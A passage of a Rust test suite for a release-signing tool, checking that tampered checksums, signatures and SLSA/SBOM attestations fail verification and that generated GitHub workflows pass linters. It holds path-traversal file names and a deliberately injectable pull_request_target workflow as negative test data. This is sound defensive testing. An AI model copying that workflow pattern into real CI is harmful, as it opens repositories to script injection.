    std::fs::write(dir.join("manifest.json"), "{}").unwrap();
    assert_fails(
        &dir,
        &trusted,
        "metadata manifest.json: not an xrelease manifest",
    );
    std::fs::remove_file(dir.join("manifest.json")).unwrap();
    std::fs::write(dir.join("publish-plan.json"), "[1]").unwrap();
    assert_fails(
        &dir,
        &trusted,
        "metadata publish-plan.json: not a publish plan",
    );
    std::fs::remove_file(dir.join("publish-plan.json")).unwrap();
    // Without xrelease's records, the release still verifies: they are never published.
    let (code, report) = verify_json(&dir, &trusted);
    assert_eq!((code, failed(&report)), (0, Vec::<String>::new()));
}

#[test]
fn tamper_names_with_a_slash_or_dot_dot() {
    for bad in ["../app-1.0.0-linux-amd64", "sub/app-1.0.0-linux-amd64"] {
        let (_s, dir) = release_copy();
        rewrite_sums(&dir, |t| {
            t.replace("  app-1.0.0-linux-amd64\n", &format!("  {bad}\n"))
        });
        assert_fails(
            &dir,
            &dir.join("cosign.pub"),
            &format!("names SHA256SUMS: `{bad}` is not a plain file name"),
        );
    }
}

#[test]
fn tamper_a_duplicated_line() {
    let (_s, dir) = release_copy();
    rewrite_sums(&dir, |t| {
        let first = t.lines().next().unwrap().to_string();
        format!("{t}{first}\n")
    });
    assert_fails(&dir, &dir.join("cosign.pub"), "names SHA256SUMS: `");
}

#[test]
fn tamper_signed_by_another_key() {
    let (_s, dir) = release_copy();
    let (key, _) = other_key(dir.parent().unwrap());
    let sums = std::fs::read(dir.join("SHA256SUMS")).unwrap();
    std::fs::write(dir.join("SHA256SUMS.sig"), key.sign_base64(&sums)).unwrap();
    assert_fails(
        &dir,
        &dir.join("cosign.pub"),
        "signature SHA256SUMS.sig: the signature does not verify",
    );
}

#[test]
fn tamper_truncated_empty_and_non_base64_signatures() {
    type Edit = fn(String) -> String;
    let cases: [(&str, Edit); 3] = [
        (
            "signature SHA256SUMS.sig: the signature is not a DER",
            |s| {
                use base64::Engine as _;
                let der = base64::engine::general_purpose::STANDARD
                    .decode(s.trim())
                    .unwrap();
                base64::engine::general_purpose::STANDARD.encode(&der[..der.len() - 9])
            },
        ),
        ("signature SHA256SUMS.sig: the signature is empty", |_| {
            String::new()
        }),
        (
            "signature SHA256SUMS.sig: the signature is not base64",
            |_| "this is not base64!".into(),
        ),
    ];
    for (expected, edit) in cases {
        let (_s, dir) = release_copy();
        let path = dir.join("SHA256SUMS.sig");
        let text = std::fs::read_to_string(&path).unwrap();
        std::fs::write(&path, edit(text)).unwrap();
        assert_fails(&dir, &dir.join("cosign.pub"), expected);
    }
}

#[test]
fn tamper_two_sboms_swapped() {
    let (_s, dir) = release_copy();
    let a = dir.join("app-1.0.0-linux-amd64.cdx.json");
    let b = dir.join("app-1.0.0-linux-arm64.cdx.json");
    let (ta, tb) = (std::fs::read(&a).unwrap(), std::fs::read(&b).unwrap());
    std::fs::write(&a, tb).unwrap();
    std::fs::write(&b, ta).unwrap();
    assert_fails(
        &dir,
        &dir.join("cosign.pub"),
        "sbom app-1.0.0-linux-amd64.cdx.json: metadata.component sha256 is",
    );
}

#[test]
fn tamper_the_wrong_public_key_is_given() {
    let (_s, dir) = release_copy();
    let (_, other) = other_key(dir.parent().unwrap());
    let failures = assert_fails(
        &dir,
        &other,
        "signature SHA256SUMS.sig: the signature does not verify",
    );
    // Everything signed fails; nothing about the files themselves does.
    let signed = [
        "signature ",
        "attestation ",
        "provenance ",
        "sbom-attest ",
        "metadata cosign.pub",
    ];
    assert!(
        failures
            .iter()
            .all(|f| signed.iter().any(|p| f.starts_with(p))),
        "only signature checks fail: {failures:?}"
    );
}

#[test]
fn verify_fails_closed_on_an_empty_or_missing_directory() {
    let scratch = tempfile::tempdir().unwrap();
    let (_, key) = other_key(scratch.path());
    let empty = scratch.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    assert_fails(&empty, &key, "checksums SHA256SUMS: SHA256SUMS is missing");
    assert_fails(&scratch.path().join("nope"), &key, "read ");
}

// ---- keys: keygen, key-signed releases, passwords ------------------------------------------

const PASSWORD: &str = "hunter2-Zq9-not-in-any-output";

/// A config outside the fixture that signs with `key` (plus this machine's overrides beside it).
fn key_config(fixture: &Fixture, dir: &std::path::Path, key: &str) -> std::path::PathBuf {
    let text = format!(
        "[release]\nexclude-bins = [\"app-secret\"]\n\n[sign]\nmode = \"key\"\nkey = \"{key}\"\n\n[github]\nrepository = \"fixture/basic\"\n"
    );
    fixture.config_outside(dir, &text)
}

/// Every byte xrelease wrote or printed must be free of `secret`.
#[track_caller]
fn assert_never_leaked(secret: &str, outputs: &[&Outcome], dirs: &[&std::path::Path]) {
    for o in outputs {
        assert!(
            !o.stdout().contains(secret) && !o.stderr().contains(secret),
            "the secret leaked into output"
        );
    }
    for dir in dirs {
        for entry in walk(dir) {
            let bytes = std::fs::read(&entry).unwrap();
            assert!(
                !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
                "the secret leaked into {}",
                entry.display()
            );
        }
    }
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            out.extend(walk(&path))
        } else {
            out.push(path)
        }
    }
    out
}

#[test]
fn keygen_then_a_key_signed_release_verifies_everywhere() {
    let (fixture, outcome) = basic_release();
    outcome.success();
    let keys = tempfile::tempdir().unwrap();
    let prefix = keys.path().join("release");
    let keygen = fixture
        .xrelease(&["keygen", "--output-prefix", prefix.to_str().unwrap()])
        .env("COSIGN_PASSWORD", PASSWORD)
        .run();
    keygen.success().stdout_has("release.key");
    let key_text = std::fs::read_to_string(keys.path().join("release.key")).unwrap();
    assert!(
        key_text.starts_with("-----BEGIN ENCRYPTED SIGSTORE PRIVATE KEY-----"),
        "{key_text}"
    );
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(keys.path().join("release.key"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o600
    );
    // keygen refuses to overwrite.
    let again = fixture
        .xrelease(&["keygen", "--output-prefix", prefix.to_str().unwrap()])
        .env("COSIGN_PASSWORD", PASSWORD)
        .run();
    again.code(2);

    let config = key_config(fixture, keys.path(), "release.key");
    let release = fixture
        .xrelease(&[
            "release",
            "v1.0.0",
            "--dry-run",
            "--real-signing",
            "--quiet",
            "--dist",
            "dist/keyed",
        ])
        .env("COSIGN_PASSWORD", PASSWORD)
        .run_with_config(&config);
    release.success();
    let dist = fixture.path("dist/keyed");
    assert_eq!(
        std::fs::read_to_string(dist.join("cosign.pub")).unwrap(),
        std::fs::read_to_string(keys.path().join("release.pub")).unwrap()
    );
    assert_eq!(
        openssl_verify(&dist, "cosign.pub", "SHA256SUMS.sig", "SHA256SUMS"),
        "Verified OK"
    );
    let (code, report) = verify_json(&dist, &keys.path().join("release.pub"));
    assert_eq!((code, failed(&report)), (0, vec![]));
    assert_never_leaked(
        PASSWORD,
        &[&keygen, &again, &release],
        &[keys.path(), &dist],
    );
}

#[test]
fn a_cosign_key_made_by_an_independent_implementation_signs_a_release() {
    let (fixture, outcome) = basic_release();
    outcome.success();
    let keys = tempfile::tempdir().unwrap();
    let made = std::process::Command::new("python3")
        .arg(repo_root().join("tests/interop/make_cosign_key.py"))
        .args(["make", "py.key", "py.pub", "cosign"])
        .current_dir(keys.path())
        .env("XRELEASE_INTEROP_PASSWORD", PASSWORD)
        .output()
        .unwrap();
    assert!(
        made.status.success(),
        "{}",
        String::from_utf8_lossy(&made.stderr)
    );
    assert!(
        std::fs::read_to_string(keys.path().join("py.key"))
            .unwrap()
            .contains("ENCRYPTED COSIGN PRIVATE KEY")
    );
    let config = key_config(fixture, keys.path(), "py.key");
    fixture
        .xrelease(&[
            "release",
            "v1.0.0",
            "--dry-run",
            "--real-signing",
            "--quiet",
            "--dist",
            "dist/python-key",
        ])
        .env("COSIGN_PASSWORD", PASSWORD)
        .run_with_config(&config)
        .success();
    let dist = fixture.path("dist/python-key");
    std::fs::copy(keys.path().join("py.pub"), dist.join("py.pub")).unwrap();
    assert_eq!(
        openssl_verify(&dist, "py.pub", "SHA256SUMS.sig", "SHA256SUMS"),
        "Verified OK"
    );
}

#[test]
fn a_wrong_or_missing_key_password_stops_the_release_before_building() {
    let (fixture, outcome) = basic_release();
    outcome.success();
    let keys = tempfile::tempdir().unwrap();
    let prefix = keys.path().join("k");
    fixture
        .xrelease(&["keygen", "--output-prefix", prefix.to_str().unwrap()])
        .env("COSIGN_PASSWORD", PASSWORD)
        .run()
        .success();
    let config = key_config(fixture, keys.path(), "k.key");
    let wrong = "Wr0ng-pass-also-secret";
    let refused = fixture
        .xrelease(&[
            "release",
            "v1.0.0",
            "--dry-run",
            "--real-signing",
            "--dist",
            "dist/wrong-password",
        ])
        .env("COSIGN_PASSWORD", wrong)
        .run_with_config(&config);
    refused
        .code(2)
        .stderr_has("wrong password")
        .stderr_has("COSIGN_PASSWORD");
    assert!(
        !fixture.path("dist/wrong-password").exists(),
        "nothing is built"
    );
    assert_never_leaked(wrong, &[&refused], &[keys.path()]);

    let missing = fixture
        .xrelease(&[
            "release",
            "v1.0.0",
            "--dry-run",
            "--real-signing",
            "--dist",
            "dist/no-password",
        ])
        .run_with_config(&config);
    missing.code(2).stderr_has("set COSIGN_PASSWORD");
    let no_key = fixture
        .xrelease(&[
            "keygen",
            "--output-prefix",
            keys.path().join("x").to_str().unwrap(),
        ])
        .run();
    no_key.code(2).stderr_has("COSIGN_PASSWORD");
}

// ---- attestations: SLSA provenance and SBOM attestations in DSSE envelopes -----------------

/// A release signed with a key the tests hold, so that tampered statements can be re-signed
/// with the right key (and fail on content, not on the signature).
fn keyed_release() -> &'static (tempfile::TempDir, std::path::PathBuf) {
    static KEYED: std::sync::OnceLock<(tempfile::TempDir, std::path::PathBuf)> =
        std::sync::OnceLock::new();
    KEYED.get_or_init(|| {
        let (fixture, outcome) = basic_release();
        outcome.success();
        let keys = tempfile::tempdir().unwrap();
        let prefix = keys.path().join("release");
        fixture
            .xrelease(&["keygen", "--output-prefix", prefix.to_str().unwrap()])
            .env("COSIGN_PASSWORD", PASSWORD)
            .run()
            .success();
        let config = key_config(fixture, keys.path(), "release.key");
        fixture
            .xrelease(&[
                "release",
                "v1.0.0",
                "--dry-run",
                "--real-signing",
                "--quiet",
                "--dist",
                "dist/keyed-attest",
            ])
            .env("COSIGN_PASSWORD", PASSWORD)
            .run_with_config(&config)
            .success();
        (keys, fixture.path("dist/keyed-attest"))
    })
}

fn keyed_copy() -> (
    tempfile::TempDir,
    std::path::PathBuf,
    xrelease::signing::key::PrivateKey,
) {
    let (keys, dist) = keyed_release();
    let scratch = tempfile::tempdir().unwrap();
    let dir = scratch.path().join("release");
    copy_tree(dist, &dir);
    let key = xrelease::signing::key::PrivateKey::read_encrypted(
        &keys.path().join("release.key"),
        &PASSWORD.into(),
    )
    .unwrap();
    (scratch, dir, key)
}

fn read_envelope(path: &std::path::Path) -> (serde_json::Value, serde_json::Value) {
    use base64::Engine as _;
    let envelope: serde_json::Value = serde_json::from_str(
        std::fs::read_to_string(path)
            .unwrap()
            .lines()
            .next()
            .unwrap(),
    )
    .unwrap();
    let payload = base64::engine::general_purpose::STANDARD
        .decode(envelope["payload"].as_str().unwrap())
        .unwrap();
    (envelope.clone(), serde_json::from_slice(&payload).unwrap())
}

/// Rewrites the statement of an envelope file and signs it again with `key` (as payloadType `ty`).
fn resign(
    path: &std::path::Path,
    key: &xrelease::signing::key::PrivateKey,
    ty: &str,
    edit: impl FnOnce(&mut serde_json::Value),
) {
    let (_, mut statement) = read_envelope(path);
    edit(&mut statement);
    let envelope = xrelease::signing::dsse::Envelope::sign(
        ty,
        &serde_json::to_vec(&statement).unwrap(),
        key,
        "",
    );
    std::fs::write(
        path,
        format!("{}\n", serde_json::to_string(&envelope).unwrap()),
    )
    .unwrap();
}

const IN_TOTO: &str = "application/vnd.in-toto+json";

fn verify_with(dir: &std::path::Path, extra: &[&str]) -> (i32, serde_json::Value) {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_xrelease"))
        .arg("verify")
        .arg(dir)
        .arg("--key")
        .arg(dir.join("cosign.pub"))
        .arg("--json")
        .args(extra)
        .output()
        .unwrap();
    (
        out.status.code().unwrap(),
        serde_json::from_slice(&out.stdout).unwrap(),
    )
}

#[track_caller]
fn assert_attest_fails(dir: &std::path::Path, extra: &[&str], expected: &str) -> Vec<String> {
    let (code, report) = verify_with(dir, extra);
    let failures = failed(&report);
    assert_eq!(code, 3, "{failures:?}");
    assert!(
        failures.iter().any(|f| f.starts_with(expected)),
        "expected `{expected}…`, got {failures:?}"
    );
    failures
}

#[test]
fn the_provenance_envelope_verifies_with_openssl_over_an_independent_pae() {
    use base64::Engine as _;
    let (_s, dir, _) = keyed_copy();
    let (envelope, _) = read_envelope(&dir.join("provenance.intoto.jsonl"));
    let b64 = base64::engine::general_purpose::STANDARD;
    let body = b64.decode(envelope["payload"].as_str().unwrap()).unwrap();
    let ty = envelope["payloadType"].as_str().unwrap();
    assert_eq!(ty, IN_TOTO);
    // DSSE v1 pre-authentication encoding, built here from the spec, not by xrelease.
    let mut pae = format!("DSSEv1 {} {} {} ", ty.len(), ty, body.len()).into_bytes();
    pae.extend_from_slice(&body);
    std::fs::write(dir.join("pae.bin"), &pae).unwrap();
    std::fs::write(
        dir.join("pae.sig"),
        envelope["signatures"][0]["sig"].as_str().unwrap(),
    )
    .unwrap();
    assert_eq!(
        openssl_verify(&dir, "cosign.pub", "pae.sig", "pae.bin"),
        "Verified OK"
    );
    // The same bytes with the payload changed do not verify.
    let mut bad = pae.clone();
    let last = bad.len() - 2;
    bad[last] ^= 1;
    std::fs::write(dir.join("pae.bin"), &bad).unwrap();
    assert_ne!(
        openssl_verify(&dir, "cosign.pub", "pae.sig", "pae.bin"),
        "Verified OK"
    );
}

/// The in-toto attestation framework's own Python bindings parse a statement (and, for SLSA,
/// its predicate) with unknown fields rejected: "ok" or the parser's complaint.
fn in_toto_parse(statement: &serde_json::Value) -> String {
    let script = r#"
import json, sys
from google.protobuf import json_format
from in_toto_attestation.v1 import statement_pb2
from in_toto_attestation.v1.statement import Statement
from in_toto_attestation.predicates.provenance.v1 import provenance_pb2
try:
    doc = json.load(sys.stdin)
    pb = json_format.ParseDict(doc, statement_pb2.Statement())
    Statement.copy_from_pb(pb).validate()
    if doc["predicateType"] == "https://slsa.dev/provenance/v1":
        json_format.ParseDict(doc["predicate"], provenance_pb2.Provenance())
    print("ok")
except Exception as e:
    print("rejected: " + str(e).replace("\n", " ")[:300])
"#;
    use std::io::Write;
    let mut child = std::process::Command::new("python3")
        .args(["-c", script])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(statement.to_string().as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "in-toto-attestation is missing (scripts/setup.sh): {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

#[test]
fn statements_parse_with_the_in_toto_attestation_bindings() {
    let (_s, dir, _) = keyed_copy();
    let (_, provenance) = read_envelope(&dir.join("provenance.intoto.jsonl"));
    assert_eq!(in_toto_parse(&provenance), "ok");
    let (_, sbom) = read_envelope(&dir.join("app-1.0.0-linux-arm64.cdx.intoto.jsonl"));
    assert_eq!(in_toto_parse(&sbom), "ok");
    // The parser can refuse: an unknown field in the SLSA predicate.
    let mut bad = provenance.clone();
    bad["predicate"]["runDetails"]["surprise"] = true.into();
    assert!(
        in_toto_parse(&bad).starts_with("rejected"),
        "{}",
        in_toto_parse(&bad)
    );
}

#[test]
fn provenance_names_the_source_build_and_every_binary() {
    let (_s, dir, _) = keyed_copy();
    let (_, p) = read_envelope(&dir.join("provenance.intoto.jsonl"));
    assert_eq!(p["_type"], "https://in-toto.io/Statement/v1");
    assert_eq!(p["predicateType"], "https://slsa.dev/provenance/v1");
    let names: Vec<&str> = p["subject"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    assert_eq!(names.len(), 6);
    for s in p["subject"].as_array().unwrap() {
        let bytes = std::fs::read(dir.join(s["name"].as_str().unwrap())).unwrap();
        assert_eq!(s["digest"]["sha256"].as_str().unwrap(), sha256_hex(&bytes));
    }
    let def = &p["predicate"]["buildDefinition"];
    assert_eq!(
        def["buildType"],
        "https://github.com/xrelease/xrelease/buildtypes/cargo-release/v1"
    );
    assert_eq!(
        def["externalParameters"]["repository"],
        "https://github.com/fixture/basic"
    );
    assert_eq!(def["externalParameters"]["ref"], "refs/tags/v1.0.0");
    assert_eq!(def["externalParameters"]["tag"], "v1.0.0");
    assert!(
        def["externalParameters"].get("workflow").is_none(),
        "no workflow outside GitHub Actions"
    );
    assert_eq!(def["internalParameters"]["profile"], "release");
    assert_eq!(
        def["internalParameters"]["targets"],
        serde_json::json!(["aarch64-unknown-linux-gnu", AMD64])
    );
    assert!(
        def["internalParameters"]["toolchains"][AMD64]["rustc"]
            .as_str()
            .unwrap()
            .starts_with("rustc ")
    );
    let deps = def["resolvedDependencies"].as_array().unwrap();
    assert_eq!(
        deps[0]["uri"],
        "git+https://github.com/fixture/basic@refs/tags/v1.0.0"
    );
    let (fixture, _) = basic_release();
    assert_eq!(
        deps[0]["digest"]["gitCommit"].as_str().unwrap(),
        fixture.git(&["rev-parse", "HEAD"])
    );
    assert_eq!(deps[1]["name"], "Cargo.lock");
    assert_eq!(
        deps[1]["digest"]["sha256"].as_str().unwrap(),
        sha256_hex(fixture.read("Cargo.lock").as_bytes())
    );
    let run = &p["predicate"]["runDetails"];
    assert_eq!(
        run["builder"]["id"],
        format!(
            "https://github.com/xrelease/xrelease/builders/local@v{}",
            env!("CARGO_PKG_VERSION")
        )
    );
    assert!(
        run["metadata"]["invocationId"]
            .as_str()
            .unwrap()
            .starts_with("urn:uuid:")
    );
    assert!(
        run["metadata"]["startedOn"].as_str().unwrap()
            <= run["metadata"]["finishedOn"].as_str().unwrap()
    );
}

#[test]
fn github_actions_context_feeds_the_provenance() {
    let (fixture, outcome) = basic_release();
    outcome.success();
    let vars = [
        ("GITHUB_ACTIONS", "true"),
        ("GITHUB_REPOSITORY", "fixture/basic"),
        ("GITHUB_REF", "refs/tags/v1.0.0"),
        (
            "GITHUB_WORKFLOW_REF",
            "fixture/basic/.github/workflows/release.yml@refs/tags/v1.0.0",
        ),
        ("GITHUB_SERVER_URL", "https://github.com"),
        ("GITHUB_RUN_ID", "4242"),
        ("GITHUB_RUN_ATTEMPT", "2"),
        ("GITHUB_EVENT_NAME", "push"),
        ("GITHUB_REPOSITORY_ID", "123456"),
        ("GITHUB_REPOSITORY_OWNER_ID", "7890"),
        ("RUNNER_ENVIRONMENT", "github-hosted"),
    ];
    let mut run = fixture.xrelease(&[
        "release",
        "v1.0.0",
        "--dry-run",
        "--quiet",
        "--dist",
        "dist/actions",
    ]);
    for (k, v) in vars {
        run = run.env(k, v);
    }
    run.run().success();
    let (_, p) = read_envelope(&fixture.path("dist/actions/provenance.intoto.jsonl"));
    let def = &p["predicate"]["buildDefinition"];
    assert_eq!(
        def["externalParameters"]["workflow"],
        serde_json::json!({"ref": "refs/tags/v1.0.0", "repository": "https://github.com/fixture/basic", "path": ".github/workflows/release.yml"})
    );
    assert_eq!(
        def["internalParameters"]["github"],
        serde_json::json!({"event_name": "push", "repository_id": "123456", "repository_owner_id": "7890", "runner_environment": "github-hosted"})
    );
    let run = &p["predicate"]["runDetails"];
    assert_eq!(
        run["builder"]["id"],
        "https://github.com/fixture/basic/.github/workflows/release.yml@refs/tags/v1.0.0"
    );
    assert_eq!(
        run["metadata"]["invocationId"],
        "https://github.com/fixture/basic/actions/runs/4242/attempts/2"
    );
}

#[test]
fn the_key_signed_release_passes_every_attestation_check() {
    let (_s, dir, _) = keyed_copy();
    let (code, report) = verify_with(&dir, &["--repo", "fixture/basic", "--tag", "v1.0.0"]);
    assert_eq!((code, failed(&report)), (0, vec![]));
    let kinds: std::collections::BTreeSet<&str> = report["checks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["check"].as_str().unwrap())
        .collect();
    for kind in ["attestation", "provenance", "sbom-attest"] {
        assert!(kinds.contains(kind), "{kinds:?}");
    }
}

#[test]
fn tamper_provenance_payload_edited_with_the_old_signature() {
    let (_s, dir, _) = keyed_copy();
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD;
    let path = dir.join("provenance.intoto.jsonl");
    let (mut envelope, mut statement) = read_envelope(&path);
    statement["subject"][0]["digest"]["sha256"] = "0".repeat(64).into();
    envelope["payload"] = b64.encode(serde_json::to_vec(&statement).unwrap()).into();
    std::fs::write(&path, format!("{envelope}\n")).unwrap();
    let failures = assert_attest_fails(&dir, &[], "attestation provenance.intoto.jsonl: line 1: ");
    assert!(
        failures
            .iter()
            .any(|f| f.starts_with("provenance subjects: not checked")),
        "{failures:?}"
    );
}

#[test]
fn tamper_provenance_signed_by_another_key() {
    let (_s, dir, _) = keyed_copy();
    let other = xrelease::signing::key::PrivateKey::generate().unwrap();
    resign(
        &dir.join("provenance.intoto.jsonl"),
        &other,
        IN_TOTO,
        |_| {},
    );
    assert_attest_fails(&dir, &[], "attestation provenance.intoto.jsonl: line 1: ");
}

#[test]
fn tamper_provenance_subjects_changed_dropped_or_added() {
    type Edit = fn(&mut serde_json::Value);
    let edits: [(&str, Edit); 3] = [
        ("changed", |s| {
            s["subject"][1]["digest"]["sha256"] = "1".repeat(64).into()
        }),
        ("dropped", |s| {
            s["subject"].as_array_mut().unwrap().remove(2);
        }),
        ("added", |s| {
            s["subject"]
                .as_array_mut()
                .unwrap()
                .push(serde_json::json!({"name": "evil", "digest": {"sha256": "2".repeat(64)}}))
        }),
    ];
    for (what, edit) in edits {
        // Re-signed by another key: the signature check catches it.
        let (_s, dir, _) = keyed_copy();
        resign(
            &dir.join("provenance.intoto.jsonl"),
            &xrelease::signing::key::PrivateKey::generate().unwrap(),
            IN_TOTO,
            edit,
        );
        assert_attest_fails(&dir, &[], "attestation provenance.intoto.jsonl");
        // Re-signed by the right key: the signature holds, the subject check must catch it.
        let (_s, dir, key) = keyed_copy();
        resign(&dir.join("provenance.intoto.jsonl"), &key, IN_TOTO, edit);
        let failures = assert_attest_fails(&dir, &[], "provenance subjects: ");
        assert!(
            !failures
                .iter()
                .any(|f| f.starts_with("attestation provenance")),
            "{what}: {failures:?}"
        );
    }
}

#[test]
fn tamper_provenance_for_another_tag_or_repository() {
    let (_s, dir, key) = keyed_copy();
    // Asked about another tag or repository, the genuine provenance does not match.
    assert_attest_fails(
        &dir,
        &["--tag", "v2.0.0"],
        "provenance source: the provenance is for tag v1.0.0, expected v2.0.0",
    );
    assert_attest_fails(
        &dir,
        &["--repo", "someone/else"],
        "provenance source: the provenance names https://github.com/fixture/basic",
    );
    // A provenance (validly signed) that names another tag or repository is refused.
    resign(&dir.join("provenance.intoto.jsonl"), &key, IN_TOTO, |s| {
        s["predicate"]["buildDefinition"]["externalParameters"]["tag"] = "v0.9.0".into();
    });
    assert_attest_fails(
        &dir,
        &["--tag", "v1.0.0"],
        "provenance source: the provenance is for tag v0.9.0",
    );
    let (_s, dir, key) = keyed_copy();
    resign(&dir.join("provenance.intoto.jsonl"), &key, IN_TOTO, |s| {
        s["predicate"]["buildDefinition"]["externalParameters"]["repository"] =
            "https://github.com/someone/else".into();
    });
    assert_attest_fails(
        &dir,
        &["--repo", "fixture/basic"],
        "provenance source: the provenance names https://github.com/someone/else",
    );
}

#[test]
fn tamper_sbom_attestation_for_another_binary() {
    let (_s, dir, key) = keyed_copy();
    let digest = sha256_hex(&std::fs::read(dir.join("app-1.0.0-linux-arm64")).unwrap());
    resign(
        &dir.join("app-1.0.0-linux-amd64.cdx.intoto.jsonl"),
        &key,
        IN_TOTO,
        |s| {
            s["subject"] = serde_json::json!([{"name": "app-1.0.0-linux-arm64", "digest": {"sha256": digest}}]);
        },
    );
    assert_attest_fails(
        &dir,
        &[],
        "sbom-attest app-1.0.0-linux-amd64.cdx.intoto.jsonl: the subject must be app-1.0.0-linux-amd64",
    );
}

#[test]
fn tamper_sbom_attestation_predicate_differs_from_the_sbom() {
    let (_s, dir, key) = keyed_copy();
    resign(
        &dir.join("other-1.0.0-linux-arm64.cdx.intoto.jsonl"),
        &key,
        IN_TOTO,
        |s| {
            s["predicate"]["components"].as_array_mut().unwrap().pop();
        },
    );
    assert_attest_fails(
        &dir,
        &[],
        "sbom-attest other-1.0.0-linux-arm64.cdx.intoto.jsonl: the attested SBOM differs",
    );
}

#[test]
fn tamper_payload_type_changed() {
    let (_s, dir, key) = keyed_copy();
    // Re-signed over the new type, so only the payloadType rule can catch it.
    resign(
        &dir.join("provenance.intoto.jsonl"),
        &key,
        "application/json",
        |_| {},
    );
    assert_attest_fails(
        &dir,
        &[],
        "attestation provenance.intoto.jsonl: line 1: payloadType is `application/json`",
    );
}

// ---- the release workflow, `xrelease init` -------------------------------------------------

fn lint_workflows(files: &[std::path::PathBuf]) -> (bool, String, bool, String) {
    let actionlint = std::process::Command::new("actionlint")
        .args(files)
        .output()
        .expect("actionlint is installed (scripts/setup.sh)");
    let dir = files[0].parent().unwrap();
    let zizmor = std::process::Command::new("zizmor")
        .args(["--offline", "--no-progress", "--min-severity", "medium"])
        .arg(dir)
        .output()
        .expect("zizmor is installed (scripts/setup.sh)");
    (
        actionlint.status.success(),
        String::from_utf8_lossy(&actionlint.stdout).into_owned(),
        zizmor.status.success(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&zizmor.stdout),
            String::from_utf8_lossy(&zizmor.stderr)
        ),
    )
}

/// The workflow as data, through Python's YAML parser: jobs, permissions, every `uses:`.
fn workflow_facts(path: &std::path::Path) -> serde_json::Value {
    let script = r#"
import json, sys, yaml
doc = yaml.safe_load(open(sys.argv[1]))
uses = []
for job in doc["jobs"].values():
    for step in job.get("steps", []):
        if "uses" in step:
            uses.append(step["uses"])
print(json.dumps({
    "on": sorted(doc[True].keys()),
    "permissions": doc.get("permissions"),
    "concurrency": doc.get("concurrency"),
    "jobs": {name: job.get("permissions") for name, job in doc["jobs"].items()},
    "uses": uses,
}))
"#;
    let out = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(path)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "not YAML? {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

#[test]
fn this_repos_workflows_pass_actionlint_and_zizmor() {
    let files = [
        repo_root().join(".github/workflows/release.yml"),
        repo_root().join(".github/workflows/ci.yml"),
    ];
    let (ok, out, zok, zout) = lint_workflows(&files);
    assert!(ok, "actionlint: {out}");
    assert!(zok && zout.contains("No findings"), "zizmor: {zout}");
}

#[test]
fn the_linters_can_fail() {
    let scratch = tempfile::tempdir().unwrap();
    let bad = scratch.path().join("bad.yml");
    std::fs::write(
        &bad,
        "on: pull_request_target\npermissions: write-all\njobs:\n  x:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n      - run: echo ${{ github.event.pull_request.title }}\n",
    )
    .unwrap();
    let (_, _, zok, zout) = lint_workflows(&[bad]);
    assert!(
        !zok,
        "zizmor must flag an unpinned, over-privileged pull_request_target workflow: {zout}"
    );
    let typo = scratch.path().join("typo.yml");
    std::fs::write(&typo, "on: push\njobs:\n  x:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo ${{ github.nope }}\n").unwrap();
    let (ok2, out2, _, _) = lint_workflows(&[typo]);
    assert!(
        !ok2,
        "actionlint must flag an unknown context property: {out2}"
    );
}

#[test]
fn the_release_workflow_pins_actions_and_scopes_permissions() {
    let facts = workflow_facts(&repo_root().join(".github/workflows/release.yml"));
    assert_eq!(
        facts["on"],
        serde_json::json!(["push", "workflow_dispatch"])
    );
    assert_eq!(
        facts["permissions"],
        serde_json::json!({"contents": "read"})
    );
    assert!(
        facts["concurrency"]["group"]
            .as_str()
            .unwrap()
            .contains("github.ref_name"),
        "one group per tag"
    );
    let uses = facts["uses"].as_array().unwrap();
    assert!(!uses.is_empty());
    for u in uses {
        let (_, rev) = u.as_str().unwrap().split_once('@').unwrap();
        assert!(
            rev.len() == 40 && rev.bytes().all(|b| b.is_ascii_hexdigit()),
            "{u} is not pinned to a commit"
        );
    }
    let jobs = facts["jobs"].as_object().unwrap();
    assert_eq!(
        jobs.keys().collect::<Vec<_>>(),
        ["build", "plan", "release"]
    );
    for (name, permissions) in jobs {
        if name == "release" {
            assert_eq!(
                permissions,
                &serde_json::json!({"contents": "write", "id-token": "write", "attestations": "write"})
            );
        } else {
            assert_eq!(
                permissions,
                &serde_json::json!({"contents": "read"}),
                "{name} must be read-only"
            );
        }
    }
    let text = std::fs::read_to_string(repo_root().join(".github/workflows/release.yml")).unwrap();
    assert!(!text.contains("pull_request_target"));
    // Every `uses:` line carries its version in a comment.
    for line in text.lines().filter(|l| l.contains("uses: ")) {
        assert!(line.contains(" # v"), "{line}");
    }
}

#[test]
fn the_committed_release_workflow_is_what_release_toml_generates() {
    let root = repo_root();
    let workspace = xrelease::workspace::Workspace::load(&root).unwrap();
    let config = xrelease::config::load(&root.join("release.toml"), true).unwrap();
    let invocation = xrelease::init::Invocation::detect(&workspace);
    assert_eq!(
        invocation,
        xrelease::init::Invocation::Xtask,
        "this repo releases itself through cargo xtask"
    );
    let generated = xrelease::init::workflow(&config, &invocation).unwrap();
    let committed = std::fs::read_to_string(root.join(".github/workflows/release.yml")).unwrap();
    assert!(
        generated == committed,
        "release.yml is stale: run `cargo xtask init --force` and commit it"
    );
}

#[test]
